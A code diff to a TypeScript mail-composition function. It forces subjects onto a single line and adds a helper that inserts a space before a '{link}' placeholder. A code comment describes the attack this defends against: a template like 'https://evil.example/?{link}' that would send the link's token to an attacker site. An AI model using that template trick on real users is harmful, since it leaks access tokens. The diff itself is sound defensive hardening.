@@ -38,11 +38,17 @@ export function composeMail(
   }
   const clean = sanitizeRichText(text, { toUrl: toUrl(url), toFrame: () => '' }).replace(/<img\b[^>]*>/g, '')
   return {
-    subject: replacePlaceholders(subject, toOneLine),
-    text: `${replacePlaceholders(toMessageLines(clean), toValue)}\n`,
+    subject: toSingleLine(replacePlaceholders(subject, toOneLine)),
+    text: `${replacePlaceholders(separateLinks(toMessageLines(clean)), toValue)}\n`,
     html: toDocument(fillHtml(clean, toValue), language),
   }
 }
+
+/**
+ * Attack: a template with `https://evil.example/?{link}`. A mail program would make one link of both, and send the token
+ * of the link to that site.
+ */
+const separateLinks = (text: string): string => text.replace(/(?<=[^\s(]|\S\()\{link\}/g, ` ${linkAddress}`)
 
 /** Leaves the address `{link}` unchanged, because it is a placeholder. */
 const toUrl =
